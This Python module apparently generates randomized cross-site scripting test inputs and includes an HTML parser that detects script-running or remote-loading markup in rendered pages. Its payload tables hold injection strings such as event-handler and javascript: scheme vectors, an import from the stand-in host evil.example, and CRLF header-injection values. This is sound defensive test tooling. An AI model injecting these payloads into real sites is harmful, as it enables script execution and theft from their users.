"""Inputs that want to run something on a page, by chance, and what a page that ran them has."""

import re
from html.parser import HTMLParser
from random import Random

_TAGS = (
    *("img", "svg", "script", "iframe", "object", "embed", "body", "input", "details", "video"),
    *("audio", "a", "form", "button", "math", "style", "link", "meta", "base", "marquee", "x"),
    *(
        "template",
        "noscript",
        "textarea",
        "title",
        "select",
        "animate",
        "set",
        "use",
        "foreignObject",
    ),
)
_EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "ontoggle",
    "onbegin",
    "onmouseover",
    "ONERROR",
)
_LINKS = ("href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "poster", "style")
_CALLS = (
    "alert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "eval(name)",
    "import('//evil.example/x.js')",
)
_SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "javascript&colon;"),
    *(" javascript:", "\x01javascript:", "data:text/html,<script>", "vbscript:", "//evil.example/"),
)
_AROUND = (
    *("{}", '">{}', "'>{}", "</textarea>{}", "</title>{}", "--><!--{}-->", "]]>{}", "</script>{}"),
    *("<![CDATA[{}]]>", "</style>{}", "{{{{ {} }}}}", '\\"{}', "%0d%0aX-Evil: 1%0d%0a{}", "`{}`"),
    *("\r\nX-Evil: 1\r\n{}", "\u2028{}", "\u202e{}", "&lt;{}&gt;", "<<{}", "ż{}ł"),
)


def vectors(number: int, seed: int = 0) -> list[str]:
    """Return *number* different inputs; the same *seed* makes the same ones."""
    chance, made = Random(seed), dict[str, None]()
    while len(made) < number:
        made[chance.choice(_AROUND).format(_core(chance))] = None
    return list(made)


def _core(chance: Random) -> str:
    tag, call, scheme = chance.choice(_TAGS), chance.choice(_CALLS), chance.choice(_SCHEMES)
    space = chance.choice((" ", "/", "\n", "\t", "\x0c"))
    match chance.randrange(5):
        case 0:
            return f"<{tag}{space}{chance.choice(_EVENTS)}={call}>"
        case 1:
            return f'<{tag}{space}{chance.choice(_LINKS)}="{scheme}{call}">x</{tag}>'
        case 2:
            return f"<{tag}><script>{call}</script></{tag}>"
        case 3:
            return f'"{space}{chance.choice(_EVENTS)}={call}{space}x="'
        case _:
            return f"{scheme}{call}"


class _Dangers(HTMLParser):
    """Collects what would run or load something, of a page or of a frame in it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self.found += [f"{tag} {name}" for name in given if name.startswith("on")]
        for name in ("href", "src", "action", "formaction", "xlink:href", "data", "poster"):
            address = re.sub(r"[\x00-\x20]", "", given.get(name, "")).lower()
            if address.startswith(("javascript:", "vbscript:", "data:text", "//evil")):
                self.found.append(f"{tag} {name}={address[:40]}")
        if tag == "script" and given.get("type") != "application/json":
            ours = given.get("src", "").startswith(("/static/", "static/"))
            self.found += [] if ours else [f"script {given}"]
        if tag == "iframe":
            self.found += (
                [] if "allow-scripts" not in given.get("sandbox", "allow-scripts") else [tag]
            )
            self.found += dangers(given.get("srcdoc", ""))
        if tag in {"object", "embed", "marquee", "applet"} or (tag == "base" and "href" in given):
            self.found.append(tag)
        # Without a place to go, a page only reads itself again.
        if tag == "meta" and "url" in given.get("content", "").lower():
            self.found.append("meta refresh")


def dangers(html: str) -> list[str]:
    """Return what in *html*, or in a frame of it, would run, load or lead elsewhere."""
    parser = _Dangers()
    parser.feed(html)
    parser.close()
    return parser.found
